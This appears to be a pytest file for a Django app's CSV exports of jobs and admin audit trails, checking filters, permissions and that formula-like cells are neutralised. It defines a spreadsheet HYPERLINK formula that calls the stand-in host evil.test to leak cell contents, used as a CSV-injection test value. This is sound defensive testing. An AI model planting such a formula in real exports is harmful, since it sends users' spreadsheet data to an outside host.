"""Lists as CSV: the tenant's jobs, and the lookup and download trails from the admin."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Permission
from django.test import Client

from aquadash import exports
from aquadash import simulator as sim
from aquadash.models import AuditEvent, Download, Lookup

HOSTILE_NAME = '=HYPERLINK("https://evil.test/?leak="&A1, "Open")'


def rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with it
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def client(finance_client: Client) -> Client:
    return finance_client


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+41 79", "'+41 79"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\r=x", "'\r=x"),
        ("Month-end = done", "Month-end = done"),
        (-5, -5),
        (None, ""),
    ],
)
def test_a_cell_never_starts_a_formula(cell, expected):
    assert exports.inert(cell) == expected


def test_the_tenant_job_list_downloads_with_its_filters(client, simulator_tenant, simulator):
    hostile = simulator.add_job(records=1, name=HOSTILE_NAME)
    for job_id in (hostile, sim.RUNNING_JOB_ID):
        client.get(f"/t/sim/jobs/{job_id}/")
    page = client.get("/t/sim/jobs/?status=completed").content.decode()
    assert "status=completed" in re.search(r'href="\?([^"]*format=csv)"', page)[1]

    table = rows(client.get("/t/sim/jobs/?status=completed&format=csv"))

    assert table[0] == ["Tenant", "Job ID", "Name", "Status", "Started", "Run time (seconds)",
                        "Total records", "Batches done", "Batches total", "Last checked",
                        "Last fetched by", "Gone from Zuora"]  # fmt: skip
    assert [row[1] for row in table[1:]] == [hostile]  # the running job is filtered out
    assert table[1][2] == "'" + HOSTILE_NAME
    assert table[1][4].endswith(("-08:00", "-07:00"))  # in the tenant's zone, Los Angeles
    assert table[1][6:9] == ["1", "1", "1"]


def test_the_job_list_export_is_for_those_who_may_see_the_tenant(outsider_client, simulator_tenant):
    assert outsider_client.get("/t/sim/jobs/?format=csv").status_code == 404


@pytest.fixture
def trail(client, simulator_tenant, simulator) -> None:
    """A lookup of a job with a hostile name, and a download of its file."""
    job_id = simulator.add_job(records=2, name=HOSTILE_NAME)
    client.get(f"/t/sim/jobs/{job_id}/")
    snapshot_job = simulator_tenant.jobs.get(job_id=job_id).job()
    response = client.get(f"/t/sim/jobs/{job_id}/files/{snapshot_job.batches[0].file_ids[0]}")
    b"".join(response.streaming_content)
    client.get(f"/t/sim/jobs/{sim.RUNNING_JOB_ID}/")


def test_admins_export_the_lookup_trail_as_filtered(admin_client, trail):
    listing = admin_client.get("/admin/aquadash/lookup/?job_status=completed").content.decode()
    assert 'href="export.csv?job_status=completed"' in listing

    table = rows(admin_client.get("/admin/aquadash/lookup/export.csv?q=HYPERLINK"))

    assert table[0][:4] == ["at", "username", "tenant__slug", "job_id"]
    assert len(table) == 2 == Lookup.objects.filter(job_name=HOSTILE_NAME).count() + 1
    assert table[1][1:3] == ["finance", "sim"]
    assert table[1][4] == "'" + HOSTILE_NAME


def test_admins_export_the_download_trail(admin_client, trail):
    table = rows(admin_client.get("/admin/aquadash/download/export.csv?outcome__exact=complete"))

    assert len(table) == 2 and Download.objects.count() == 1
    exported = dict(zip(table[0], table[1], strict=True))
    assert exported["username"] == "finance" and exported["outcome"] == "complete"


def test_the_trails_are_exported_only_to_staff_who_may_read_them(client, make_user, trail):
    assert client.get("/admin/aquadash/lookup/export.csv").status_code == 302  # to sign in
    staff = make_user("auditor")
    staff.is_staff = True
    staff.save()
    auditor = Client()
    auditor.force_login(staff)
    assert auditor.get("/admin/aquadash/lookup/export.csv").status_code == 403

    staff.user_permissions.add(Permission.objects.get(codename="view_lookup"))

    assert auditor.get("/admin/aquadash/lookup/export.csv").status_code == 200
    assert auditor.get("/admin/aquadash/download/export.csv").status_code == 403


def test_admins_export_the_audit_events_as_filtered(
    admin_client, outsider_client, simulator_tenant
):
    outsider_client.get("/t/sim/jobs/")  # refused: an access-denied event
    AuditEvent.record(AuditEvent.Kind.CREDENTIALS_UNREADABLE, tenant=simulator_tenant, detail="x")

    table = rows(admin_client.get("/admin/aquadash/auditevent/export.csv?kind=access_denied"))

    assert table[0] == ["at", "kind", "username", "tenant_name", "target", "detail"]
    assert [row[1:5] for row in table[1:]] == [
        ["tenant access denied", "outsider", "Sim", "/t/sim/jobs/"]
    ]
